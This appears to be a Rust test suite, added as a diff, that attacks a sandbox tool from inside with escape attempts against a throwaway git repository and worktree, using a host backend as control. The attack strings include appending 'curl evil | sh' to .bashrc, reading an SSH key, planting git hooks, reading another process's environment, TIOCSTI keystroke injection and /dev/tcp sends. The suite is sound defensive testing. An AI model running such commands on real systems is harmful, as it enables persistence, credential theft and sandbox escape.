@@ -1,0 +1,671 @@
+//! The escape suite: attacks run from inside a sandbox against a real git repository with a
+//! linked worktree, each judged from the outside by its effect (a file that must not exist,
+//! a process that must still live, a listener that must not have been reached).
+//!
+//! The same attacks run under `--backend host` as a control: there they must succeed, which
+//! proves each check can fail. A backend passes when every attack is blocked (or, for the
+//! git pointers, repaired and reported) and every piece of normal work still succeeds.
+#![allow(dead_code)]
+
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::os::unix::net::{SocketAddr, UnixListener};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::Duration;
+
+use super::Env;
+
+pub const SECRET: &str = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test-secret";
+pub const MARK: &str = "ATTEMPTED";
+
+/// A fresh home, repository, linked worktree and outside directory.
+pub struct Fixture {
+    pub env: Env,
+    pub home: PathBuf,
+    pub main: PathBuf,
+    pub task: PathBuf,
+    pub common: PathBuf,
+    pub outside: PathBuf,
+}
+
+pub fn git(dir: &Path, args: &[&str]) {
+    let out = Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "git {args:?}: {}", super::text(&out));
+}
+
+impl Fixture {
+    pub fn new() -> Self {
+        let env = Env::new();
+        let home = env.home();
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::write(home.join(".ssh/id_ed25519"), SECRET).unwrap();
+        std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
+        let outside = env.path().join("outside");
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(outside.join("victim.txt"), "original\n").unwrap();
+
+        let main = env.path().join("repo");
+        std::fs::create_dir_all(&main).unwrap();
+        git(&main, &["init", "-q", "-b", "trunk"]);
+        git(&main, &["config", "user.name", "Sandbox Test"]);
+        git(&main, &["config", "user.email", "test@sandbox.invalid"]);
+        std::fs::write(main.join("README"), "hello\n").unwrap();
+        std::fs::write(
+            main.join("hello.c"),
+            "#include <stdio.h>\nint main(void){puts(\"built and ran\");return 0;}\n",
+        )
+        .unwrap();
+        std::fs::write(
+            main.join("Makefile"),
+            "test:\n\t@test 4 -eq $$((2+2)) && ./check.sh && echo tests-passed\n",
+        )
+        .unwrap();
+        std::fs::write(main.join("check.sh"), "#!/bin/sh\ngrep -q hello README\n").unwrap();
+        std::os::unix::fs::PermissionsExt::set_mode(
+            &mut std::fs::metadata(main.join("check.sh"))
+                .unwrap()
+                .permissions(),
+            0o755,
+        );
+        git(&main, &["add", "."]);
+        git(&main, &["update-index", "--chmod=+x", "check.sh"]);
+        git(&main, &["commit", "-qm", "init"]);
+        let task = env.path().join("task");
+        git(
+            &main,
+            &[
+                "worktree",
+                "add",
+                "-q",
+                task.to_str().unwrap(),
+                "-b",
+                "feature",
+            ],
+        );
+        let main = std::fs::canonicalize(main).unwrap();
+        let task = std::fs::canonicalize(task).unwrap();
+        let common = main.join(".git");
+        Fixture {
+            env,
+            home,
+            main,
+            task,
+            common,
+            outside,
+        }
+    }
+
+    /// `sandbox run --backend B FLAGS -- sh -c SCRIPT` in the worktree.
+    pub fn run(&self, backend: &str, flags: &[String], script: &str) -> Output {
+        self.run_with(backend, flags, script, Stdio::null())
+    }
+
+    pub fn run_with(&self, backend: &str, flags: &[String], script: &str, stdin: Stdio) -> Output {
+        // The host backend is the control: it enforces nothing, so it takes no policy flags
+        // (it refuses --block-net rather than pretend).
+        let flags: &[String] = if backend == "host" { &[] } else { flags };
+        let mut cmd = self.env.cmd();
+        cmd.current_dir(&self.task)
+            .arg("run")
+            .arg("--backend")
+            .arg(backend)
+            .args(flags)
+            .args(["--", "sh", "-c", script])
+            .stdin(stdin);
+        cmd.output().unwrap()
+    }
+
+    pub fn spawn_outside(&self, args: &[&str], env: &[(&str, &str)]) -> Child {
+        let mut cmd = Command::new(args[0]);
+        cmd.args(&args[1..])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        for (k, v) in env {
+            cmd.env(k, v);
+        }
+        cmd.spawn().unwrap()
+    }
+}
+
+/// What happened to one attack.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verdict {
+    /// The effect did not happen.
+    Blocked,
+    /// The effect happened but was undone and reported after the run.
+    Repaired,
+    /// The effect happened.
+    Escaped(String),
+    /// The command never ran (the sandbox refused to start): proves nothing.
+    NotRun(String),
+    Skipped(String),
+}
+
+impl Verdict {
+    pub fn short(&self) -> String {
+        match self {
+            Verdict::Blocked => "blocked".into(),
+            Verdict::Repaired => "repaired".into(),
+            Verdict::Escaped(_) => "ESCAPED".into(),
+            Verdict::NotRun(_) => "not run".into(),
+            Verdict::Skipped(r) => format!("skipped: {r}"),
+        }
+    }
+
+    pub fn held(&self) -> bool {
+        matches!(self, Verdict::Blocked | Verdict::Repaired)
+    }
+}
+
+/// One attack: a script, extra flags, and a judge that looks at the world afterwards.
+pub struct Attack {
+    pub name: &'static str,
+    /// Needs an interpreter other than sh (skipped when missing).
+    pub needs: Option<&'static str>,
+    pub run: fn(&Fixture, &str) -> Verdict,
+}
+
+fn ran(out: &Output) -> Result<(), Verdict> {
+    if String::from_utf8_lossy(&out.stdout).contains(MARK) {
+        Ok(())
+    } else {
+        Err(Verdict::NotRun(super::text(out)))
+    }
+}
+
+fn judge(out: &Output, escaped: bool, what: &str) -> Verdict {
+    if let Err(v) = ran(out) {
+        return v;
+    }
+    if escaped {
+        Verdict::Escaped(format!("{what}\n{}", super::text(out)))
+    } else {
+        Verdict::Blocked
+    }
+}
+
+fn block_net_flags(allowed: u16) -> Vec<String> {
+    vec![
+        "--block-net".into(),
+        "--allow-port".into(),
+        allowed.to_string(),
+    ]
+}
+
+fn free_listener() -> TcpListener {
+    TcpListener::bind("127.0.0.1:0").unwrap()
+}
+
+fn accepted(listener: &TcpListener) -> Option<String> {
+    listener.set_nonblocking(true).unwrap();
+    for _ in 0..50 {
+        if let Ok((mut stream, _)) = listener.accept() {
+            stream.set_nonblocking(false).unwrap();
+            stream
+                .set_read_timeout(Some(Duration::from_secs(2)))
+                .unwrap();
+            let mut buf = String::new();
+            let _ = stream.read_to_string(&mut buf);
+            return Some(buf);
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    None
+}
+
+pub fn attacks() -> Vec<Attack> {
+    vec![
+        Attack {
+            name: "write a new file outside the worktree",
+            needs: None,
+            run: |f, b| {
+                let target = f.outside.join("new.txt");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
+                );
+                judge(&out, target.exists(), "file created outside")
+            },
+        },
+        Attack {
+            name: "overwrite a file outside the worktree",
+            needs: None,
+            run: |f, b| {
+                let target = f.outside.join("victim.txt");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
+                );
+                let changed = std::fs::read_to_string(&target).unwrap() != "original\n";
+                judge(&out, changed, "victim overwritten")
+            },
+        },
+        Attack {
+            name: "append to $HOME/.bashrc",
+            needs: None,
+            run: |f, b| {
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
+                );
+                let changed =
+                    std::fs::read_to_string(f.home.join(".bashrc")).unwrap() != "# original\n";
+                judge(&out, changed, ".bashrc changed")
+            },
+        },
+        Attack {
+            name: "read $HOME/.ssh/id_ed25519",
+            needs: None,
+            run: |f, b| {
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; cat \"$HOME/.ssh/id_ed25519\""),
+                );
+                judge(
+                    &out,
+                    String::from_utf8_lossy(&out.stdout).contains(SECRET),
+                    "key read",
+                )
+            },
+        },
+        Attack {
+            name: "create <common>/hooks/pre-commit",
+            needs: None,
+            run: |f, b| {
+                let hook = f.common.join("hooks/pre-commit");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!(
+                        "echo {MARK}; printf '#!/bin/sh\\necho pwned\\n' > '{0}'; chmod +x '{0}'",
+                        hook.display()
+                    ),
+                );
+                judge(&out, hook.exists(), "hook installed")
+            },
+        },
+        Attack {
+            name: "git config --local core.hooksPath",
+            needs: None,
+            run: |f, b| {
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; git config --local core.hooksPath /tmp/evil-hooks"),
+                );
+                let config = std::fs::read_to_string(f.common.join("config")).unwrap();
+                judge(&out, config.contains("hooksPath"), "hooksPath set")
+            },
+        },
+        Attack {
+            name: "write <common>/packed-refs",
+            needs: None,
+            run: |f, b| {
+                let target = f.common.join("packed-refs");
+                let out = f.run(b, &[], &format!("echo {MARK}; echo '0000000000000000000000000000000000000000 refs/heads/evil' >> '{}'", target.display()));
+                judge(&out, target.exists(), "packed-refs written")
+            },
+        },
+        Attack {
+            name: "write through a symlink in the worktree that points outside",
+            needs: None,
+            run: |f, b| {
+                let target = f.outside.join("via-link.txt");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!(
+                        "echo {MARK}; ln -s '{}' link && echo pwned > link/via-link.txt",
+                        f.outside.display()
+                    ),
+                );
+                judge(&out, target.exists(), "written through symlink")
+            },
+        },
+        Attack {
+            name: "write with .. out of the worktree",
+            needs: None,
+            run: |f, b| {
+                let target = f.outside.join("dotdot.txt");
+                let out = f.run(b, &[], &format!("echo {MARK}; echo pwned > ../outside/dotdot.txt; echo pwned > ./sub/../../outside/dotdot.txt"));
+                judge(&out, target.exists(), "written via ..")
+            },
+        },
+        Attack {
+            name: "hard link the repository config into the worktree and edit it",
+            needs: None,
+            run: |f, b| {
+                let config = f.common.join("config");
+                let before = std::fs::read_to_string(&config).unwrap();
+                let out = f.run(b, &[], &format!("echo {MARK}; ln '{}' ./cfg && printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> ./cfg", config.display()));
+                let after = std::fs::read_to_string(&config).unwrap();
+                judge(&out, before != after, "config changed through a hard link")
+            },
+        },
+        Attack {
+            name: "write through /proc/self/root",
+            needs: None,
+            run: |f, b| {
+                let target = f.outside.join("proc-root.txt");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!(
+                        "echo {MARK}; echo pwned > /proc/self/root{}",
+                        target.display()
+                    ),
+                );
+                judge(&out, target.exists(), "written through /proc/self/root")
+            },
+        },
+        Attack {
+            name: "read another process's environment from /proc",
+            needs: None,
+            run: |f, b| {
+                let secret = "sandbox-test-environ-secret";
+                let mut victim = f.spawn_outside(&["sleep", "30"], &[("VICTIM_SECRET", secret)]);
+                let pid = victim.id();
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; cat /proc/{pid}/environ | tr '\\0' '\\n'"),
+                );
+                let _ = victim.kill();
+                let _ = victim.wait();
+                judge(
+                    &out,
+                    String::from_utf8_lossy(&out.stdout).contains(secret),
+                    "environ read",
+                )
+            },
+        },
+        Attack {
+            name: "write /dev/shm",
+            needs: None,
+            run: |f, b| {
+                let name = format!("sandbox-escape-{}", std::process::id());
+                let target = Path::new("/dev/shm").join(&name);
+                let _ = std::fs::remove_file(&target);
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!("echo {MARK}; echo pwned > /dev/shm/{name}"),
+                );
+                let escaped = target.exists();
+                let _ = std::fs::remove_file(&target);
+                judge(&out, escaped, "/dev/shm written")
+            },
+        },
+        Attack {
+            name: "kill a process outside the sandbox",
+            needs: None,
+            run: |f, b| {
+                let mut victim = f.spawn_outside(&["sleep", "30"], &[]);
+                let pid = victim.id() as i32;
+                let out = f.run(b, &[], &format!("echo {MARK}; kill -9 {pid}"));
+                std::thread::sleep(Duration::from_millis(100));
+                let dead = !super::alive(pid) || victim.try_wait().unwrap().is_some();
+                let _ = victim.kill();
+                let _ = victim.wait();
+                judge(&out, dead, "victim killed")
+            },
+        },
+        Attack {
+            name: "connect to an abstract unix socket outside",
+            needs: Some("/usr/bin/python3"),
+            run: |f, b| {
+                let name = format!("sandbox-escape-{}-{}", std::process::id(), rand_suffix());
+                let addr = <SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
+                    name.as_bytes(),
+                )
+                .unwrap();
+                let listener = UnixListener::bind_addr(&addr).unwrap();
+                listener.set_nonblocking(true).unwrap();
+                let script = format!(
+                    "echo {MARK}; /usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); s.send(b'pwned')\""
+                );
+                let out = f.run(b, &[], &script);
+                let reached = listener.accept().is_ok();
+                judge(&out, reached, "abstract socket reached")
+            },
+        },
+        Attack {
+            name: "TCP connect to a port not allowed under --block-net",
+            needs: Some("/bin/bash"),
+            run: |f, b| {
+                let allowed = free_listener();
+                let target = free_listener();
+                let port = target.local_addr().unwrap().port();
+                let flags = block_net_flags(allowed.local_addr().unwrap().port());
+                let out = f.run(
+                    b,
+                    &flags,
+                    &format!("echo {MARK}; bash -c 'echo pwned > /dev/tcp/127.0.0.1/{port}'"),
+                );
+                judge(&out, accepted(&target).is_some(), "forbidden port reached")
+            },
+        },
+        Attack {
+            name: "UDP send under --block-net",
+            needs: Some("/bin/bash"),
+            run: |f, b| {
+                let allowed = free_listener();
+                let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
+                sink.set_read_timeout(Some(Duration::from_millis(300)))
+                    .unwrap();
+                let port = sink.local_addr().unwrap().port();
+                let flags = block_net_flags(allowed.local_addr().unwrap().port());
+                let out = f.run(
+                    b,
+                    &flags,
+                    &format!("echo {MARK}; bash -c 'echo pwned > /dev/udp/127.0.0.1/{port}'"),
+                );
+                let mut buf = [0u8; 64];
+                judge(&out, sink.recv(&mut buf).is_ok(), "UDP datagram arrived")
+            },
+        },
+        Attack {
+            name: "push keystrokes into the terminal (TIOCSTI)",
+            needs: Some("/usr/bin/python3"),
+            run: |f, b| {
+                let pty = nix::pty::openpty(None, None).unwrap();
+                let script = format!(
+                    "echo {MARK}; /usr/bin/python3 -c \"import fcntl,termios\nfor c in b'id\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\""
+                );
+                let out = f.run_with(b, &[], &script, Stdio::from(pty.slave.try_clone().unwrap()));
+                // From outside: was anything queued as *input* on the terminal?
+                let queued = pending_input(&pty.slave);
+                judge(&out, queued > 0, "keystrokes injected")
+            },
+        },
+        Attack {
+            name: "rewrite the worktree's .git pointer",
+            needs: None,
+            run: |f, b| {
+                let pointer = f.task.join(".git");
+                let before = std::fs::read_to_string(&pointer).unwrap();
+                let evil = f.task.join("evil-gitdir");
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!(
+                        "echo {MARK}; mkdir -p evil-gitdir/hooks; printf 'gitdir: {}\\n' > .git",
+                        evil.display()
+                    ),
+                );
+                if let Err(v) = ran(&out) {
+                    return v;
+                }
+                let after = std::fs::read_to_string(&pointer).unwrap();
+                let reported = String::from_utf8_lossy(&out.stderr).contains("restored");
+                match (after == before, reported) {
+                    (true, true) => Verdict::Repaired,
+                    (true, false) => Verdict::Blocked,
+                    _ => Verdict::Escaped(format!("pointer now {after:?}\n{}", super::text(&out))),
+                }
+            },
+        },
+        Attack {
+            name: "rewrite <gitdir>/commondir",
+            needs: None,
+            run: |f, b| {
+                let pointer = f.common.join("worktrees/task/commondir");
+                let before = std::fs::read_to_string(&pointer).unwrap();
+                let out = f.run(
+                    b,
+                    &[],
+                    &format!(
+                        "echo {MARK}; echo /tmp/evil-common > '{}'",
+                        pointer.display()
+                    ),
+                );
+                if let Err(v) = ran(&out) {
+                    return v;
+                }
+                let after = std::fs::read_to_string(&pointer).unwrap();
+                let reported = String::from_utf8_lossy(&out.stderr).contains("restored");
+                match (after == before, reported) {
+                    (true, true) => Verdict::Repaired,
+                    (true, false) => Verdict::Blocked,
+                    _ => Verdict::Escaped(format!("commondir now {after:?}")),
+                }
+            },
+        },
+    ]
+}
+
+fn rand_suffix() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .subsec_nanos() as u64
+}
+
+/// Bytes waiting in a terminal's input queue (FIONREAD on the slave).
+fn pending_input(slave: &OwnedFd) -> i32 {
+    let mut n: libc::c_int = 0;
+    // SAFETY: FIONREAD writes one int to the pointed-to stack value.
+    unsafe { libc::ioctl(slave.as_raw_fd(), libc::FIONREAD, &mut n) };
+    n
+}
+
+/// Normal work that must succeed inside the sandbox.
+pub struct Work {
+    pub name: &'static str,
+    pub flags: fn(&Fixture) -> Vec<String>,
+    pub script: &'static str,
+    pub expect: &'static str,
+}
+
+pub fn normal_work() -> Vec<Work> {
+    vec![
+        Work {
+            name: "build and run a C program",
+            flags: |_| vec![],
+            script: "cc -o hello hello.c && ./hello",
+            expect: "built and ran",
+        },
+        Work {
+            name: "run a test suite (make test)",
+            flags: |_| vec![],
+            script: "make -s test",
+            expect: "tests-passed",
+        },
+        Work {
+            name: "git add / commit / branch / log",
+            flags: |_| vec![],
+            script: "echo change >> README && git add README && git commit -qm 'from the sandbox' && git branch side && git log --format=%s -1 && git branch --list side",
+            expect: "from the sandbox",
+        },
+        Work {
+            name: "git stash / stash pop",
+            flags: |_| vec![],
+            script: "echo wip >> README && git stash -q && git diff --quiet && git stash pop -q 2>/dev/null; grep -q wip README && echo stash-ok",
+            expect: "stash-ok",
+        },
+        Work {
+            name: "write and read TMPDIR",
+            flags: |_| vec![],
+            script: "test -n \"$TMPDIR\" && echo tmp-ok > \"$TMPDIR/f\" && cat \"$TMPDIR/f\"",
+            expect: "tmp-ok",
+        },
+        Work {
+            name: "TCP connect to an allowed port under --block-net",
+            flags: |_| vec![],
+            script: "",
+            expect: "",
+        },
+    ]
+}
+
+/// Runs the normal-work item; the TCP one is special-cased (it needs a live listener).
+pub fn do_work(f: &Fixture, backend: &str, work: &Work) -> Result<(), String> {
+    if work.script.is_empty() {
+        let allowed = free_listener();
+        let port = allowed.local_addr().unwrap().port();
+        let out = f.run(
+            backend,
+            &block_net_flags(port),
+            &format!("bash -c 'echo reached > /dev/tcp/127.0.0.1/{port}'"),
+        );
+        return match accepted(&allowed) {
+            Some(text) if text.contains("reached") => Ok(()),
+            _ => Err(super::text(&out)),
+        };
+    }
+    let out = f.run(backend, &(work.flags)(f), work.script);
+    if out.status.success() && String::from_utf8_lossy(&out.stdout).contains(work.expect) {
+        Ok(())
+    } else {
+        Err(super::text(&out))
+    }
+}
+
+/// Runs every attack and every piece of work under each backend; returns the table rows.
+pub fn run_suite(backends: &[&str]) -> Vec<(String, Vec<Verdict>)> {
+    let mut rows = Vec::new();
+    for attack in attacks() {
+        let mut verdicts = Vec::new();
+        for backend in backends {
+            let verdict = match attack.needs {
+                Some(tool) if !Path::new(tool).exists() => {
+                    Verdict::Skipped(format!("{tool} missing"))
+                }
+                _ => (attack.run)(&Fixture::new(), backend),
+            };
+            verdicts.push(verdict);
+        }
+        rows.push((attack.name.to_string(), verdicts));
+    }
+    rows
+}
+
+/// Prints the table, one column per backend.
+pub fn print_table(backends: &[&str], rows: &[(String, Vec<Verdict>)]) {
+    let width = rows.iter().map(|r| r.0.len()).max().unwrap_or(10);
+    print!("{:width$}", "attack");
+    for b in backends {
+        print!("  {b:>10}");
+    }
+    println!();
+    for (name, verdicts) in rows {
+        print!("{name:width$}");
+        for v in verdicts {
+            print!("  {:>10}", v.short());
+        }
+        println!();
+    }
+}
